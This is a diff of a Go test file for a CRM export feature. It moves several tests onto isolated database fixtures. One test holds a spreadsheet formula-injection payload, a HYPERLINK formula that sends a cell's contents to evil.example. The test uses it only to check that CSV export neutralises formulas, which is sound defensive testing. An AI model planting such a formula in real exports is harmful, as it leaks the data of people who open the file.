@@ -34,7 +34,7 @@ func sha256Hex(b []byte) string { s := sha256.Sum256(b); return hex.EncodeToStri
 // nothing else about them. Then the cursor: the next export holds only the
 // changes made since, and one from the latest cursor holds nothing.
 func TestExport_FeedsTellTheStoryByCRMID(t *testing.T) {
-	storetest.Each(t, func(t *testing.T, db *store.DB) {
+	storetest.EachIsolated(t, func(t *testing.T, db *store.DB) {
 		w := newWorld(t, db)
 		ctx := context.Background()
 		step := func() { w.clk.Advance(time.Minute) }
@@ -170,7 +170,7 @@ func TestExport_FeedsTellTheStoryByCRMID(t *testing.T) {
 // TestExport_RefusesCursorsItDidNotGive: a bad since or until is a field
 // error, not an export of everything.
 func TestExport_RefusesCursorsItDidNotGive(t *testing.T) {
-	storetest.Each(t, func(t *testing.T, db *store.DB) {
+	storetest.EachIsolated(t, func(t *testing.T, db *store.DB) {
 		w := newWorld(t, db)
 		ctx := context.Background()
 		r, err := w.export.Open(ctx, crm.Range{})
@@ -212,7 +212,7 @@ func TestExport_RefusesCursorsItDidNotGive(t *testing.T) {
 // change, committed afterwards, would never be exported. PostgreSQL only:
 // SQLite's one writer cannot have two write transactions open at once.
 func TestExport_AChangeInFlightIsNeitherMissedNorRepeated(t *testing.T) {
-	db := storetest.Engine(t, "postgres")
+	db := storetest.PostgresIsolated(t)
 	w := newWorld(t, db)
 	ctx := context.Background()
 	ann := w.enrol(t, "+447700900101", "CRM-1", "Ann")
@@ -256,7 +256,7 @@ func TestExport_AChangeInFlightIsNeitherMissedNorRepeated(t *testing.T) {
 // thousands of changes in one transaction, more than one statement can
 // bind; every one is recorded and exported.
 func TestFeed_RecordsThousandsOfChangesOfOneTransaction(t *testing.T) {
-	storetest.Each(t, func(t *testing.T, db *store.DB) {
+	storetest.EachIsolated(t, func(t *testing.T, db *store.DB) {
 		ctx := context.Background()
 		feed := crm.NewFeed(db, nil)
 		const n = 7001 // 2 events each: 14,002 rows, 70,010 parameters
@@ -289,7 +289,7 @@ func TestFeed_RecordsThousandsOfChangesOfOneTransaction(t *testing.T) {
 // export does not wait for it; the snapshot's xmin alone would have held
 // every later change back until it ended.
 func TestExport_AnotherDatabasesTransactionDoesNotHoldItBack(t *testing.T) {
-	db := storetest.Engine(t, "postgres")
+	db := storetest.PostgresIsolated(t)
 	w := newWorld(t, db)
 	ctx := context.Background()
 	ann := w.enrol(t, "+447700900101", "CRM-1", "Ann")
@@ -335,7 +335,7 @@ func TestExport_AnotherDatabasesTransactionDoesNotHoldItBack(t *testing.T) {
 // starts with; JSON Lines, for machines, keep it as typed, and numbers (a
 // points reversal, an E.164 phone) stay numbers in both.
 func TestExport_CSVCellsCannotRunAsFormulas(t *testing.T) {
-	storetest.Each(t, func(t *testing.T, db *store.DB) {
+	storetest.EachIsolated(t, func(t *testing.T, db *store.DB) {
 		w := newWorld(t, db)
 		evil := `=HYPERLINK("http://evil.example/?"&A1,"Ann")`
 		ann := w.enrol(t, "+447700900101", "@CRM-1", evil)
